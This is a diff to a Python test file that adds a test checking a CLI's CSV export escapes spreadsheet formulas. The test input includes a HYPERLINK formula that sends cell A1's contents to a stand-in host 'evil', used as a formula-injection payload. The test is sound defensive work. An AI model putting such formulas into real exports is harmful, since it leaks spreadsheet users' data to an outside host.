@@ -14,6 +14,7 @@ from PIL import Image
 
 import keiki
 from keiki.cli.main import main
+from keiki.core.spreadsheet import bare
 
 FORBIDDEN = ("torch", "torchvision", "timm", "transformers", "sklearn", "pandas", "matplotlib", "onnx")
 ENV = {**os.environ, "PYTHONPATH": str(Path(keiki.__file__).parents[1])}
@@ -56,6 +57,23 @@ def test_rows_go_to_a_file(suffix: str, text_bundle: Path, tmp_path: Path, capsy
     text = out.read_text(encoding="utf-8")
     rows = table(text) if suffix == ".csv" else [json.loads(line) for line in text.splitlines()]
     assert [row["input"] for row in rows] == ["a red apple", "a phone"]
+
+
+def test_no_cell_of_the_csv_is_a_formula_and_programs_get_it_back(
+    text_bundle: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    asked = ['=HYPERLINK("http://evil/?"&A1,"click") apple', "old mac\rphone, here", "a red apple"]
+    assert main(["predict", str(text_bundle), *asked, "--out", str(tmp_path / "a.csv")]) == 0
+    with (tmp_path / "a.csv").open(newline="", encoding="utf-8") as file:
+        found = [row["input"] for row in csv.DictReader(file, strict=True)]
+    assert found == [f"'{asked[0]}", *asked[1:]]
+    assert [bare(each) for each in found] == asked
+    assert main(["predict", str(text_bundle), *asked, "--out", str(tmp_path / "a.jsonl")]) == 0
+    lines = (tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()
+    assert [json.loads(line)["input"] for line in lines] == asked
+    assert main(["predict", str(text_bundle), *asked]) == 0
+    told = capsys.readouterr().out
+    assert [bare(row[0]) for row in csv.reader(io.StringIO(told, newline=""), strict=True)] == ["input", *asked]
 
 
 @pytest.mark.parametrize("out", ["answers.xlsx", "answers", "."])
